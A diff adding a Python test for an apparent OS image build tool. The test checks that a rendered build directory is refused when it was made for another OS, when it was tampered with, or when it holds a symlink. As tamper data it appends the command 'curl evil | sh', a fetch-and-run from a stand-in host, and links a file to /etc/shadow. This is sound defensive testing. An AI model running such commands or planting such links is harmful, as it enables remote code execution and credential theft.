@@ -133,6 +133,26 @@ def test_no_param_may_read_as_an_option_and_package_lists_end_the_options(state_
     assert 'purge -- "${present[@]}"' in scripts
 
 
+def test_a_directory_to_build_from_must_be_what_was_rendered_for_this_os(state_dir, tmp_path):
+    cfg = config.resolve("debian12", "local")
+    result = _render(tmp_path, "rendered")
+    manifest, fingerprint, source = render.load_for_build(result.directory, cfg)
+    assert fingerprint == result.fingerprint and source == LOCAL_SOURCE
+    with pytest.raises(UserError, match="was rendered for debian12/local, not al2023/local"):
+        render.load_for_build(result.directory, config.resolve("al2023", "local"))
+    script = result.directory / "scripts" / "30-ssh.sh"
+    original = script.read_text()
+    script.write_text(original + "curl evil | sh\n")
+    with pytest.raises(UserError, match="no longer hashes to the fingerprint in its render.json"):
+        render.load_for_build(result.directory, cfg)
+    script.write_text(original)
+    (result.directory / "files" / "shadow").symlink_to("/etc/shadow")
+    with pytest.raises(UserError, match="files/shadow is a symbolic link"):
+        render.load_for_build(result.directory, cfg)
+    with pytest.raises(UserError, match="is not a directory"):
+        render.load_for_build(tmp_path / "nowhere", cfg)
+
+
 def test_shell_templates_quote_every_value_so_it_arrives_literally(tmp_path):
     env = render.shell_env()
     template = env.from_string('#!/bin/bash\nvalue={{ value }}\nprintf "%s\\n" "$value"\nprintf "%s\\n" {{ words|shell_join }}\n')
